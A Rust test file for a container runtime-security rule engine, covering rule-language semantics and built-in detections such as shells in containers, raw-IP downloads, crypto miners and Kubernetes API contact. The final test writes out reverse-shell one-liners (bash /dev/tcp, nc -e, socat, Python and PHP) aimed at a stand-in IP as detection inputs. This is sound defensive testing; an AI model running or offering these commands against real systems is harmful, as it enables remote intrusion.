//! Rule-language semantics, each test written from the documented rule (module docs and
//! docs/runtime.md), and the built-in rules against the behaviours they are meant to catch.

use super::*;
use crate::event::{
    Connection, ContainerInfo, ContainerRuntime, Direction, ProcessInfo, ProcessSummary, Protocol,
    StdioKind,
};

const ID: &str = "d481261a4b5cf2b51de4c15910d8858157f9e4b84815999696612abe2b740cb8";

fn proc_(args: &[&str]) -> ProcessInfo {
    let name = args
        .first()
        .map(|a| a.rsplit('/').next().unwrap_or(a))
        .unwrap_or("")
        .chars()
        .take(15)
        .collect();
    ProcessInfo {
        pid: 4711,
        vpid: Some(7),
        ppid: 4700,
        name,
        exe: "/bin/busybox".into(),
        args: args.iter().map(|s| s.to_string()).collect(),
        cwd: "/".into(),
        stdin: StdioKind::Pipe,
        stdout: StdioKind::Pipe,
        stderr: StdioKind::Pipe,
        ..Default::default()
    }
}

fn container() -> ContainerInfo {
    let mut c = ContainerInfo::bare(ContainerRuntime::Podman, ID);
    c.name = Some("web".into());
    c.image = Some("localhost/app:1".into());
    c.namespace = Some("shop".into());
    c
}

fn in_container(args: &[&str]) -> Event {
    Event::exec(0, proc_(args), None, Some(container()))
}

fn on_host(args: &[&str]) -> Event {
    Event::exec(0, proc_(args), None, None)
}

/// Compiles a single rule with the given condition (plus optional lists/macros YAML).
fn rule(condition: &str, extra: &str) -> RuleSet {
    let yaml = format!(
        "{extra}\nrules:\n  - id: r\n    condition: {}\n",
        serde_json::to_string(condition).unwrap()
    );
    let mut b = RuleSetBuilder::new();
    b.add_yaml("test.yaml", &yaml).unwrap();
    b.build().unwrap()
}

fn holds(condition: &str, e: &Event) -> bool {
    !rule(condition, "").matching(e).is_empty()
}

fn build_err(yaml: &str) -> RuleError {
    let mut b = RuleSetBuilder::new();
    match b.add_yaml("bad.yaml", yaml) {
        Err(e) => e,
        Ok(()) => b.build().unwrap_err(),
    }
}

fn builtin_ids(e: &Event) -> Vec<String> {
    RuleSet::builtin()
        .unwrap()
        .matching(e)
        .into_iter()
        .map(|r| r.id.clone())
        .collect()
}

// ---- operators ---------------------------------------------------------------------------

#[test]
fn equality_and_inequality() {
    let e = in_container(&["sh", "-c", "id"]);
    assert!(holds("proc.name = sh", &e));
    assert!(holds("proc.name == sh", &e));
    assert!(!holds("proc.name = bash", &e));
    assert!(holds("proc.name != bash", &e));
    assert!(!holds("proc.name != sh", &e));
    // Case-sensitive.
    assert!(!holds("proc.name = SH", &e));
}

#[test]
fn in_and_string_operators() {
    let e = in_container(&["/usr/bin/curl", "-fsSL", "http://example.com/x.sh"]);
    assert!(holds("proc.name in (wget, curl)", &e));
    assert!(!holds("proc.name in (wget)", &e));
    assert!(!holds("proc.name in ()", &e));
    assert!(holds("proc.cmdline contains example.com", &e));
    assert!(holds("proc.cmdline icontains EXAMPLE.COM", &e));
    assert!(!holds("proc.cmdline contains EXAMPLE.COM", &e));
    assert!(holds("proc.argv0 startswith /usr/bin/", &e));
    assert!(holds("proc.cmdline endswith .sh", &e));
    assert!(holds("proc.argv0 glob '/usr/*/cu?l'", &e));
    assert!(
        !holds("proc.argv0 glob 'curl'", &e),
        "glob matches the whole value"
    );
    assert!(holds(r"proc.cmdline matches 'https?://[a-z.]+/'", &e));
    assert!(
        !holds(r"proc.cmdline matches '^https'", &e),
        "matches searches; ^ anchors"
    );
}

#[test]
fn list_fields_hold_when_any_element_does() {
    let e = in_container(&["apk", "--no-cache", "add", "curl"]);
    assert!(holds("proc.args = add", &e));
    assert!(holds("proc.args in (add, del)", &e));
    assert!(holds("proc.args startswith --no", &e));
    assert!(holds("proc.args != del", &e), "no argument equals del");
    assert!(!holds("proc.args != add", &e), "an argument equals add");
    assert!(holds("proc.args exists", &e));
    assert!(!holds("proc.args exists", &in_container(&["apk"])));
}

// `holds` takes an event; this form checks argv[0] is not part of proc.args.
fn holds_one(condition: &str) -> bool {
    holds(
        condition,
        &in_container(&["apk", "--no-cache", "add", "curl"]),
    )
}

#[test]
fn argv0_is_not_an_argument() {
    assert!(!holds_one("proc.args = apk"));
    assert!(holds_one("proc.argv0 = apk"));
}

#[test]
fn numbers_and_booleans() {
    let mut e = in_container(&["id"]);
    e.process.as_mut().unwrap().uid = 1000;
    assert!(holds("proc.uid = 1000", &e));
    assert!(holds("proc.uid >= 1000", &e));
    assert!(holds("proc.uid > 999", &e));
    assert!(!holds("proc.uid < 1000", &e));
    assert!(holds("proc.uid <= 1000", &e));
    assert!(holds("proc.uid != 0", &e));
    assert!(holds("proc.uid in (0, 1000)", &e));
    assert!(holds("proc.exe_setuid = false", &e));
    assert!(!holds("proc.exe_setuid = true", &e));
    assert!(holds("proc.exe_setuid != true", &e));
}

#[test]
fn ip_fields_support_cidr_and_text() {
    let conn = Connection {
        protocol: Protocol::Tcp,
        local: "10.1.0.5:40000".parse().unwrap(),
        remote: "[::ffff:10.96.0.1]:443".parse().unwrap(),
        direction: Direction::Outbound,
    };
    let e = Event::connect(0, conn, None, Some(container()));
    let connect_rule = |cond: &str| {
        let yaml = format!(
            "rules:\n  - id: r\n    event: connect\n    condition: {}\n",
            serde_json::to_string(cond).unwrap()
        );
        let mut b = RuleSetBuilder::new();
        b.add_yaml("t", &yaml).unwrap();
        !b.build().unwrap().matching(&e).is_empty()
    };
    assert!(connect_rule("conn.remote_ip cidr 10.96.0.0/12"));
    assert!(
        connect_rule("conn.remote_ip = 10.96.0.1"),
        "IPv4-mapped is IPv4"
    );
    assert!(
        connect_rule("conn.remote_ip = '::ffff:10.96.0.1'"),
        "operand normalized too"
    );
    assert!(connect_rule("conn.remote_ip startswith 10.96."));
    assert!(!connect_rule(
        "conn.remote_ip cidr (192.168.0.0/16, fd00::/8)"
    ));
    assert!(connect_rule(
        "conn.port = 443 and conn.direction = outbound"
    ));
    assert!(connect_rule(
        "conn.local_port = 40000 and conn.protocol = TCP"
    ));
    // An exec rule never sees connect events and the other way round.
    assert!(rule("container.id exists", "").matching(&e).is_empty());
}

#[test]
fn exists_and_absent_fields() {
    let host = on_host(&["sh"]);
    let cont = in_container(&["sh"]);
    assert!(holds("container.id exists", &cont));
    assert!(!holds("container.id exists", &host));
    // Every test on an absent field is false, != included; not makes it true.
    assert!(!holds("container.id != x", &host));
    assert!(!holds("container.image = localhost/app:1", &host));
    assert!(holds("not container.image = localhost/app:1", &host));
    assert!(!holds("parent.name = sh", &cont));
    assert!(!holds("conn.port = 443", &cont));
    // Empty text reads as absent.
    let mut e = in_container(&["sh"]);
    e.process.as_mut().unwrap().exe = String::new();
    assert!(!holds("proc.exe exists", &e));
    assert!(!holds("proc.exe != /bin/sh", &e));
}

#[test]
fn parent_fields() {
    let mut e = in_container(&["sh"]);
    e.parent = Some(ProcessSummary {
        pid: 4700,
        name: "node".into(),
        exe: "/usr/local/bin/node".into(),
        args: vec!["node".into(), "server.js".into()],
        uid: 1000,
    });
    assert!(holds("parent.name = node and parent.args = server.js", &e));
    assert!(holds("parent.cmdline = 'node server.js'", &e));
    assert!(holds("parent.uid = 1000 and parent.pid = 4700", &e));
    assert!(holds("parent.exe endswith /node", &e));
}

#[test]
fn boolean_logic_and_precedence() {
    let e = in_container(&["sh"]);
    assert!(holds(
        "proc.name = x or proc.name = sh and container.id exists",
        &e
    ));
    // `not` binds tighter than `and`: (not false) and true.
    assert!(holds("not proc.name = x and proc.name = sh", &e));
    assert!(!holds("not (proc.name = x or proc.name = sh)", &e));
    assert!(holds("((proc.name = sh))", &e));
}

// ---- lists and macros --------------------------------------------------------------------

#[test]
fn list_names_expand_unless_quoted() {
    let extra = "lists:\n  - name: shells\n    items: [sh, bash]\n";
    let rs = rule("proc.name in (shells, zsh)", extra);
    assert_eq!(rs.matching(&in_container(&["bash"])).len(), 1);
    assert_eq!(rs.matching(&in_container(&["zsh"])).len(), 1);
    let rs = rule("proc.name in shells", extra);
    assert_eq!(rs.matching(&in_container(&["sh"])).len(), 1);
    let rs = rule("proc.args = 'shells'", extra);
    assert_eq!(rs.matching(&in_container(&["echo", "shells"])).len(), 1);
    assert_eq!(rs.matching(&in_container(&["echo", "sh"])).len(), 0);
}

#[test]
fn lists_nest_append_and_replace() {
    let mut b = RuleSetBuilder::new();
    b.add_yaml(
        "a.yaml",
        "lists:\n  - name: base\n    items: [sh]\n  - name: all\n    items: [base, zsh]\nrules:\n  - id: r\n    condition: proc.name in (all)\n",
    )
    .unwrap();
    b.add_yaml(
        "b.yaml",
        "lists:\n  - name: base\n    append: true\n    items: [bash]\n",
    )
    .unwrap();
    let rs = b.clone().build().unwrap();
    for name in ["sh", "bash", "zsh"] {
        assert_eq!(rs.matching(&in_container(&[name])).len(), 1, "{name}");
    }
    b.add_yaml("c.yaml", "lists:\n  - name: base\n    items: [ksh]\n")
        .unwrap();
    let rs = b.build().unwrap();
    assert_eq!(rs.matching(&in_container(&["sh"])).len(), 0);
    assert_eq!(rs.matching(&in_container(&["ksh"])).len(), 1);
}

#[test]
fn numeric_list_items() {
    let extra = "lists:\n  - name: ports\n    items: [10250, \"6443\"]\n";
    let yaml = format!(
        "{extra}rules:\n  - id: r\n    event: connect\n    condition: conn.port in (ports)\n"
    );
    let mut b = RuleSetBuilder::new();
    b.add_yaml("t", &yaml).unwrap();
    let rs = b.build().unwrap();
    let conn = Connection {
        protocol: Protocol::Tcp,
        local: "10.0.0.1:1".parse().unwrap(),
        remote: "10.0.0.2:6443".parse().unwrap(),
        direction: Direction::Outbound,
    };
    assert_eq!(rs.matching(&Event::connect(0, conn, None, None)).len(), 1);
}

#[test]
fn macros_inline_nest_and_are_resolved_after_all_files() {
    let mut b = RuleSetBuilder::new();
    b.add_yaml(
        "a.yaml",
        "macros:\n  - name: c\n    condition: container.id exists\n  - name: shell\n    condition: c and proc.name = sh\nrules:\n  - id: r\n    condition: shell\n",
    )
    .unwrap();
    // A later file redefines a macro the rule uses indirectly.
    b.add_yaml(
        "b.yaml",
        "macros:\n  - name: c\n    condition: not container.id exists\n",
    )
    .unwrap();
    let rs = b.build().unwrap();
    assert_eq!(rs.matching(&on_host(&["sh"])).len(), 1);
    assert_eq!(rs.matching(&in_container(&["sh"])).len(), 0);
}

#[test]
fn rule_overrides_append_and_disable() {
    let mut b = RuleSetBuilder::with_builtin().unwrap();
    b.add_yaml(
        "site.yaml",
        "rules:\n  - id: shell-in-container\n    append: true\n    condition: and not container.image startswith localhost/\n    actions: [alert, kill-container]\n  - id: crypto-miner\n    enabled: false\n",
    )
    .unwrap();
    let rs = b.build().unwrap();
    assert!(rs.get("crypto-miner").is_none());
    let r = rs.get("shell-in-container").unwrap();
    assert_eq!(r.actions, vec![Action::Alert, Action::KillContainer]);
    assert_eq!(r.source, "site.yaml");
    assert!(
        r.condition
            .ends_with("and not container.image startswith localhost/")
    );
    // Our test image is under localhost/: the exception applies.
    assert!(rs.matching(&in_container(&["sh"])).is_empty());
    let mut e = in_container(&["sh"]);
    e.container.as_mut().unwrap().image = Some("docker.io/library/alpine:3".into());
    assert_eq!(rs.matching(&e).len(), 1);
}

#[test]
fn defaults_for_new_rules() {
    let rs = rule("proc.name = sh", "");
    let r = rs.get("r").unwrap();
    assert_eq!(r.severity, palisade_model::Severity::Medium);
    assert_eq!(r.event, EventKind::Exec);
    assert!(r.actions.is_empty());
}

// ---- errors --------------------------------------------------------------------------------

#[test]
fn errors_name_file_item_and_position() {
    let e = build_err("rules:\n  - id: r\n    condition: proc.nme = sh\n");
    assert_eq!(e.source_name, "bad.yaml");
    assert_eq!(e.item, "rule 'r'");
    assert!(e.message.contains("unknown field 'proc.nme'"), "{e}");
    assert!(
        e.to_string()
            .starts_with("bad.yaml: rule 'r': at character 1"),
        "{e}"
    );

    let e = build_err("rules:\n  - id: r\n    condition: shell_stuff\n");
    assert!(e.message.contains("unknown macro 'shell_stuff'"), "{e}");

    let e = build_err("rules:\n  - id: r\n    condition: proc.uid = root\n");
    assert!(
        e.message.contains("proc.uid is a number; 'root' is not"),
        "{e}"
    );

    let e = build_err("rules:\n  - id: r\n    condition: proc.name cidr 10.0.0.0/8\n");
    assert!(
        e.message
            .contains("operator 'cidr' does not apply to proc.name"),
        "{e}"
    );

    let e = build_err("rules:\n  - id: r\n    condition: proc.name = (a, b)\n");
    assert!(e.message.contains("exactly one value"), "{e}");

    let e = build_err("rules:\n  - id: r\n    condition: proc.cmdline matches '(unclosed'\n");
    assert!(e.message.contains("invalid regular expression"), "{e}");

    let e = build_err("rules:\n  - id: r\n    condition: conn.remote_ip cidr 10.0.0.0/40\n");
    assert!(e.message.contains("prefix length"), "{e}");

    let e = build_err("rules:\n  - id: r\n    severity: urgent\n    condition: proc.name = a\n");
    assert!(e.message.contains("unknown severity"), "{e}");

    let e = build_err("rules:\n  - id: r\n    actions: [explode]\n    condition: proc.name = a\n");
    assert!(e.message.contains("unknown action 'explode'"), "{e}");

    let e = build_err("rules:\n  - id: r\n    event: open\n    condition: proc.name = a\n");
    assert!(e.message.contains("unknown event 'open'"), "{e}");

    let e = build_err("rules:\n  - id: r\n    enabled: false\n");
    assert!(e.message.contains("condition is required"), "{e}");

    let e = build_err("rules:\n  - id: r\n    conditon: proc.name = a\n");
    assert!(
        e.message.contains("conditon"),
        "unknown keys are rejected: {e}"
    );

    let e = build_err(
        "macros:\n  - name: a\n    condition: b\n  - name: b\n    condition: a\nrules:\n  - id: r\n    condition: a\n",
    );
    assert!(e.message.contains("macro cycle"), "{e}");

    let e = build_err("lists:\n  - name: a\n    items: [b]\n  - name: b\n    items: [a]\n");
    assert!(e.message.contains("list cycle"), "{e}");

    let e = build_err("macros:\n  - name: in\n    condition: proc.name = a\n");
    assert!(e.message.contains("reserved word"), "{e}");

    let e = build_err("macros:\n  - name: m\n    condition: proc.name =\n");
    assert_eq!(e.item, "macro 'm'");

    let e = build_err("rules: [");
    assert!(e.item.is_empty());
    assert_eq!(e.source_name, "bad.yaml");
}

#[test]
fn oversized_inputs_are_refused() {
    let big = "x".repeat(MAX_RULES_FILE_BYTES + 1);
    assert!(RuleSetBuilder::new().add_yaml("big", &big).is_err());
    let many: Vec<String> = (0..compile::MAX_OPERAND_VALUES + 1)
        .map(|i| i.to_string())
        .collect();
    let yaml = format!("lists:\n  - name: l\n    items: [{}]\n", many.join(","));
    let mut b = RuleSetBuilder::new();
    b.add_yaml("t", &yaml).unwrap();
    assert!(b.build().is_err());
}

// ---- built-in rules ----------------------------------------------------------------------

#[test]
fn builtin_rules_compile() {
    let rs = RuleSet::builtin().unwrap();
    for id in [
        "shell-in-container",
        "package-manager-in-container",
        "network-tool-in-container",
        "download-from-raw-ip",
        "crypto-miner",
        "privilege-tool-in-container",
        "kubernetes-api-contact",
        "reverse-shell",
    ] {
        let r = rs.get(id).unwrap_or_else(|| panic!("missing {id}"));
        assert!(!r.description.is_empty());
        assert!(r.actions.is_empty(), "built-ins only alert by default");
    }
}

#[test]
fn builtin_shell_in_container() {
    assert_eq!(builtin_ids(&in_container(&["sh"])), ["shell-in-container"]);
    assert_eq!(
        builtin_ids(&in_container(&["/bin/bash", "-l"])),
        ["shell-in-container"]
    );
    assert!(
        builtin_ids(&on_host(&["bash"])).is_empty(),
        "host shells are not flagged"
    );
    // The container's entrypoint (PID 1 in its namespace) is not flagged.
    let mut e = in_container(&["sh", "-c", "sleep 100"]);
    e.process.as_mut().unwrap().vpid = Some(1);
    assert!(builtin_ids(&e).is_empty());
    assert!(builtin_ids(&in_container(&["sleep", "1"])).is_empty());
}

#[test]
fn builtin_package_managers() {
    for args in [
        &["apt-get", "install", "-y", "curl"][..],
        &["apt", "update"],
        &["dpkg", "-i", "x.deb"],
        &["apk", "add", "nmap"],
        &["dnf", "install", "gcc"],
        &["yum", "-y", "install", "gcc"],
        &["pip", "install", "requests"],
        &["pip3.11", "install", "requests"],
        &["python3", "-m", "pip", "install", "requests"],
        &["npm", "install", "left-pad"],
    ] {
        assert_eq!(
            builtin_ids(&in_container(args)),
            ["package-manager-in-container"],
            "{args:?}"
        );
    }
    for args in [
        &["dpkg", "-l"][..],
        &["apk", "info"],
        &["pip", "list"],
        &["python3", "app.py"],
    ] {
        assert!(builtin_ids(&in_container(args)).is_empty(), "{args:?}");
    }
    assert!(builtin_ids(&on_host(&["apt-get", "install", "x"])).is_empty());
}

#[test]
fn builtin_network_tools_and_raw_ip_downloads() {
    for tool in ["nc", "ncat", "socat", "nmap"] {
        assert_eq!(
            builtin_ids(&in_container(&[tool, "10.0.0.1", "80"])),
            ["network-tool-in-container"],
            "{tool}"
        );
    }
    for url in [
        "http://203.0.113.7/x.sh",
        "203.0.113.7:8080/payload",
        "https://user@198.51.100.2:8443/a?b",
        "http://[2001:db8::1]/x",
    ] {
        assert_eq!(
            builtin_ids(&in_container(&["curl", "-fsSL", url])),
            ["download-from-raw-ip"],
            "{url}"
        );
    }
    assert_eq!(
        builtin_ids(&in_container(&["wget", "-qO-", "http://192.0.2.1/"])),
        ["download-from-raw-ip"]
    );
    for url in ["https://example.com/x", "http://10.example.com/"] {
        assert!(
            builtin_ids(&in_container(&["curl", url])).is_empty(),
            "{url}"
        );
    }
}

#[test]
fn builtin_crypto_miners_on_host_and_in_containers() {
    assert_eq!(builtin_ids(&on_host(&["xmrig"])), ["crypto-miner"]);
    assert_eq!(
        builtin_ids(&in_container(&[
            "./kworker",
            "-o",
            "stratum+tcp://pool.example:3333"
        ])),
        ["crypto-miner"]
    );
    assert_eq!(
        builtin_ids(&on_host(&["/tmp/.x/updater", "--donate-level=1"])),
        ["crypto-miner"]
    );
    assert!(builtin_ids(&on_host(&["stratum-docs"])).is_empty());
}

#[test]
fn builtin_privilege_tools() {
    assert_eq!(
        builtin_ids(&in_container(&["sudo", "id"])),
        ["privilege-tool-in-container"]
    );
    assert_eq!(
        builtin_ids(&in_container(&["su", "-"])),
        ["privilege-tool-in-container"]
    );
    let mut e = in_container(&["/usr/bin/passwd"]);
    e.process.as_mut().unwrap().exe_setuid = true;
    assert_eq!(builtin_ids(&e), ["privilege-tool-in-container"]);
    let mut e = in_container(&["/usr/bin/wall"]);
    e.process.as_mut().unwrap().exe_setgid = true;
    assert_eq!(builtin_ids(&e), ["privilege-tool-in-container"]);
}

#[test]
fn builtin_kubernetes_api_contact() {
    let conn = |remote: &str, direction| Connection {
        protocol: Protocol::Tcp,
        local: "10.1.0.5:40000".parse().unwrap(),
        remote: remote.parse().unwrap(),
        direction,
    };
    let ids = |c: Connection, container_: bool| {
        builtin_ids(&Event::connect(0, c, None, container_.then(container)))
    };
    assert_eq!(
        ids(conn("192.168.1.10:10250", Direction::Outbound), true),
        ["kubernetes-api-contact"]
    );
    assert_eq!(
        ids(conn("192.168.1.10:6443", Direction::Outbound), true),
        ["kubernetes-api-contact"]
    );
    assert_eq!(
        ids(conn("10.96.0.1:443", Direction::Outbound), true),
        ["kubernetes-api-contact"]
    );
    assert!(ids(conn("93.184.216.34:443", Direction::Outbound), true).is_empty());
    assert!(ids(conn("10.96.0.1:443", Direction::Inbound), true).is_empty());
    assert!(ids(conn("10.96.0.1:443", Direction::Outbound), false).is_empty());
    // The API server address list can be replaced (the agent's api_server_addresses).
    let mut b = RuleSetBuilder::with_builtin().unwrap();
    b.set_list("k8s_api_server_addresses", vec!["10.0.0.1".into()]);
    let rs = b.build().unwrap();
    let e = Event::connect(
        0,
        conn("10.0.0.1:443", Direction::Outbound),
        None,
        Some(container()),
    );
    assert_eq!(rs.matching(&e).len(), 1);
    let e = Event::connect(
        0,
        conn("10.96.0.1:443", Direction::Outbound),
        None,
        Some(container()),
    );
    assert!(rs.matching(&e).is_empty());
}

#[test]
fn builtin_reverse_shells() {
    assert!(
        builtin_ids(&on_host(&[
            "bash",
            "-c",
            "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"
        ]))
        .contains(&"reverse-shell".to_string())
    );
    assert_eq!(
        builtin_ids(&in_container(&[
            "nc",
            "203.0.113.7",
            "4444",
            "-e",
            "/bin/sh"
        ])),
        ["network-tool-in-container", "reverse-shell"]
    );
    assert_eq!(
        builtin_ids(&on_host(&[
            "socat",
            "tcp:203.0.113.7:4444",
            "EXEC:/bin/bash"
        ])),
        ["reverse-shell"]
    );
    let mut e = on_host(&["sh"]);
    let p = e.process.as_mut().unwrap();
    p.stdin = StdioKind::Socket;
    p.stdout = StdioKind::Socket;
    assert_eq!(builtin_ids(&e), ["reverse-shell"]);
    // Only stdout on a socket (e.g. a service logging to journald) is not a reverse shell.
    let mut e = on_host(&["sh"]);
    e.process.as_mut().unwrap().stdout = StdioKind::Socket;
    assert!(builtin_ids(&e).is_empty());
    assert_eq!(
        builtin_ids(&on_host(&[
            "python3",
            "-c",
            "import socket,subprocess,os;s=socket.socket();s.connect(('203.0.113.7',4444));os.dup2(s.fileno(),0)"
        ])),
        ["reverse-shell"]
    );
    assert_eq!(
        builtin_ids(&on_host(&[
            "php",
            "-r",
            "$s=fsockopen('203.0.113.7',4444);exec('/bin/sh -i <&3');"
        ])),
        ["reverse-shell"]
    );
    assert!(builtin_ids(&on_host(&["nc", "-l", "-p", "8080"])).is_empty());
}
